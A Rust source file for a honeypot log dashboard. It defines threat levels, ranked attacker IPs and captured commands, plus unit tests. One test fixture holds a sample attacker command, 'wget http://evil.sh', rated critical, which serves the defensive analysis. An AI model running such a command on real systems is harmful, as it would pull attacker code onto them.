use serde::{Deserialize, Serialize};
use std::fmt;

/// Severity assigned to an observed command string
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum ThreatLevel {
    Low,
    Medium,
    High,
    Critical,
}

impl ThreatLevel {
    pub fn as_str(&self) -> &'static str {
        match self {
            ThreatLevel::Low => "low",
            ThreatLevel::Medium => "medium",
            ThreatLevel::High => "high",
            ThreatLevel::Critical => "critical",
        }
    }
}

impl Default for ThreatLevel {
    fn default() -> Self {
        ThreatLevel::Low
    }
}

impl fmt::Display for ThreatLevel {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.pad(self.as_str())
    }
}

/// Rank entry for an attack source.
///
/// `name` carries the raw IP string; no geographic resolution is done.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CountrySlot {
    pub name: String,
    pub attacks: usize,
    pub percentage: u32,
}

impl CountrySlot {
    pub const NO_DATA: &'static str = "No data";

    /// Placeholder used when no IP address was observed
    pub fn no_data() -> Self {
        CountrySlot {
            name: Self::NO_DATA.to_string(),
            attacks: 0,
            percentage: 0,
        }
    }

    pub fn is_sentinel(&self) -> bool {
        self.attacks == 0 && self.name == Self::NO_DATA
    }
}

/// Rank entry for a captured command
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CommandSlot {
    pub command: String,
    pub count: usize,
    pub threat: ThreatLevel,
}

impl CommandSlot {
    pub const NO_COMMANDS: &'static str = "No commands found";

    /// Placeholder used when no command was extracted
    pub fn no_commands() -> Self {
        CommandSlot {
            command: Self::NO_COMMANDS.to_string(),
            count: 0,
            threat: ThreatLevel::Low,
        }
    }

    pub fn is_sentinel(&self) -> bool {
        self.count == 0 && self.command == Self::NO_COMMANDS
    }
}

/// Structured metrics derived from one honeypot log
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct LogReport {
    /// Number of non-blank lines
    pub total_attacks: usize,
    #[serde(rename = "uniqueIPs")]
    pub unique_ips: usize,
    /// Derived estimate, round(0.95 * total_attacks)
    pub blocked_attempts: usize,
    /// Number of distinct command strings
    pub commands_captured: usize,
    pub top_countries: Vec<CountrySlot>,
    pub top_commands: Vec<CommandSlot>,
    /// Source name of the analyzed log
    pub raw_log: String,
}

impl LogReport {
    /// True when at least one of the rank lists holds real observations
    pub fn has_data(&self) -> bool {
        self.top_countries.iter().any(|slot| !slot.is_sentinel())
            || self.top_commands.iter().any(|slot| !slot.is_sentinel())
    }

    /// Highest threat level among the ranked commands
    pub fn max_threat(&self) -> ThreatLevel {
        self.top_commands
            .iter()
            .filter(|slot| !slot.is_sentinel())
            .map(|slot| slot.threat)
            .max()
            .unwrap_or_default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample_report() -> LogReport {
        LogReport {
            total_attacks: 3,
            unique_ips: 1,
            blocked_attempts: 3,
            commands_captured: 2,
            top_countries: vec![CountrySlot {
                name: "192.168.1.5".to_string(),
                attacks: 2,
                percentage: 67,
            }],
            top_commands: vec![
                CommandSlot {
                    command: "wget http://evil.sh".to_string(),
                    count: 1,
                    threat: ThreatLevel::Critical,
                },
                CommandSlot {
                    command: "ls".to_string(),
                    count: 1,
                    threat: ThreatLevel::Low,
                },
            ],
            raw_log: "cmd_audits.log".to_string(),
        }
    }

    #[test]
    fn test_threat_level_ordering() {
        assert!(ThreatLevel::Critical > ThreatLevel::High);
        assert!(ThreatLevel::High > ThreatLevel::Medium);
        assert!(ThreatLevel::Medium > ThreatLevel::Low);
    }

    #[test]
    fn test_threat_level_serializes_lowercase() {
        let json = serde_json::to_string(&ThreatLevel::Critical).unwrap();
        assert_eq!(json, "\"critical\"");
        assert_eq!(ThreatLevel::Medium.to_string(), "medium");
    }

    #[test]
    fn test_report_uses_dashboard_field_names() {
        let value = serde_json::to_value(sample_report()).unwrap();
        for key in [
            "totalAttacks",
            "uniqueIPs",
            "blockedAttempts",
            "commandsCaptured",
            "topCountries",
            "topCommands",
            "rawLog",
        ] {
            assert!(value.get(key).is_some(), "missing key {}", key);
        }
        assert_eq!(value["topCommands"][0]["threat"], "critical");
        assert_eq!(value["topCountries"][0]["percentage"], 67);
    }

    #[test]
    fn test_report_deserializes_dashboard_shape() {
        let json = r#"{
            "totalAttacks": 0,
            "uniqueIPs": 0,
            "blockedAttempts": 0,
            "commandsCaptured": 0,
            "topCountries": [{"name": "No data", "attacks": 0, "percentage": 0}],
            "topCommands": [{"command": "No commands found", "count": 0, "threat": "low"}],
            "rawLog": "empty.log"
        }"#;
        let report: LogReport = serde_json::from_str(json).unwrap();
        assert_eq!(report.top_countries, vec![CountrySlot::no_data()]);
        assert_eq!(report.top_commands, vec![CommandSlot::no_commands()]);
        assert!(!report.has_data());
    }

    #[test]
    fn test_max_threat() {
        assert_eq!(sample_report().max_threat(), ThreatLevel::Critical);

        let mut report = sample_report();
        report.top_commands = vec![CommandSlot::no_commands()];
        assert_eq!(report.max_threat(), ThreatLevel::Low);
    }
}
